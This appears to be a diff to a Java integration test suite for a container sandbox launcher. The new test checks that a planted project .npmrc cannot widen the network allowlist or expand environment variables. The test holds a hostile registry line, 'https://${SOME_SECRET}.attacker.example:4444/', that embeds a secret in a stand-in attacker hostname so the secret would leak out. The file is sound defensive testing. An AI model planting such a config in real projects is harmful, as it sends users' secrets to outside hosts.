@@ -93,10 +93,14 @@ class CliIT {
     }
 
     private static ProcessBuilder command(List<String> args, Map<String, String> extraEnv) {
+        return command(project, args, extraEnv);
+    }
+
+    private static ProcessBuilder command(Path cwd, List<String> args, Map<String, String> extraEnv) {
         List<String> line = new ArrayList<>();
         line.add(launcher.toString());
         line.addAll(args);
-        ProcessBuilder builder = new ProcessBuilder(line).directory(project.toFile());
+        ProcessBuilder builder = new ProcessBuilder(line).directory(cwd.toFile());
         Map<String, String> env = builder.environment();
         env.put("CONTAINER_HOST", TestPodman.address().uri());
         env.put("XDG_STATE_HOME", home.resolve("state").toString());
@@ -111,8 +115,13 @@ class CliIT {
 
     /** Runs the launcher; {@code input} (may be null) is written to its stdin, which is then closed. */
     private static Result minoWithInput(String input, Map<String, String> extraEnv, String... args) {
+        return minoIn(project, input, extraEnv, args);
+    }
+
+    /** Runs the launcher in the folder {@code cwd}, where it looks for a local {@code .mino.toml}. */
+    private static Result minoIn(Path cwd, String input, Map<String, String> extraEnv, String... args) {
         try {
-            Process process = command(Arrays.asList(args), extraEnv).start();
+            Process process = command(cwd, Arrays.asList(args), extraEnv).start();
             CompletableFuture<String> out = read(process.getInputStream());
             CompletableFuture<String> err = read(process.getErrorStream());
             try (OutputStream stdin = process.getOutputStream()) {
@@ -305,6 +314,46 @@ class CliIT {
         assertTrue(session(listJson("-a"), name) == null, "no session is recorded");
         try (PodmanClient podman = TestPodman.newClient()) {
             assertFalse(podman.containers().exists("mino-" + name), "no container is created");
+        }
+    }
+
+    /**
+     * Issue 14, escape 4: a trusted project whose {@code .npmrc} (written by an earlier sandbox)
+     * names a registry built from the host's environment. The plan's firewall holds the user's own
+     * registry (the positive control) and neither the planted host, its port nor the secret.
+     */
+    @Test
+    void aProjectsNpmrcNeverWidensThePresetAndNoVariableIsExpanded() throws Exception {
+        Path hostile = TestDirectories.create("mino-cli-it-npmrc-project");
+        Path userHome = TestDirectories.create("mino-cli-it-npmrc-home");
+        try {
+            Files.writeString(hostile.resolve(".npmrc"), "registry=https://${SOME_SECRET}.attacker.example:4444/\n");
+            Files.writeString(hostile.resolve(".mino.toml"), "[container]\nnetwork_preset = \"registries\"\n");
+            Files.writeString(userHome.resolve(".npmrc"), "registry=https://npm.mirror.example.internal:8443/\n");
+            Result result = minoIn(hostile, null, Map.of("HOME", userHome.toString(), "SOME_SECRET", "s3cret-value"),
+                "--trust-local", "run", "--dry-run", "--image", IMAGE, "-p", hostile.toString(), "--", "true");
+            assertEquals(0, result.exitCode(), result.toString());
+            JsonNode firewall = JSON.readTree(result.stdout()).path("firewall");
+            assertFalse(firewall.isMissingNode(), "the preset is an allowlist with a firewall: " + result);
+            String rules = firewall.toString();
+            assertTrue(rules.contains("npm.mirror.example.internal") && rules.contains("8443"),
+                "the user's own registry is in the allowlist: " + rules);
+            for (String planted : List.of("attacker", "4444", "s3cret-value", "SOME_SECRET")) {
+                assertFalse(result.stdout().contains(planted), planted + " must not reach the plan: " + result);
+            }
+            assertFalse(result.stderr().contains("s3cret-value"), result.toString());
+
+            // The user's own ~/.npmrc with a variable: ignored with a warning, never expanded.
+            Files.writeString(userHome.resolve(".npmrc"), "registry=https://${SOME_SECRET}.attacker.example:4444/\n");
+            Result expanded = minoIn(hostile, null, Map.of("HOME", userHome.toString(), "SOME_SECRET", "s3cret-value"),
+                "--trust-local", "run", "--dry-run", "--image", IMAGE, "-p", hostile.toString(), "--", "true");
+            assertEquals(0, expanded.exitCode(), expanded.toString());
+            assertFalse(expanded.stdout().contains("s3cret-value") || expanded.stdout().contains("4444"),
+                expanded.toString());
+            assertTrue(expanded.stderr().contains("never builds a host or port from variables"), expanded.toString());
+        } finally {
+            TestDirectories.delete(hostile);
+            TestDirectories.delete(userHome);
         }
     }
 
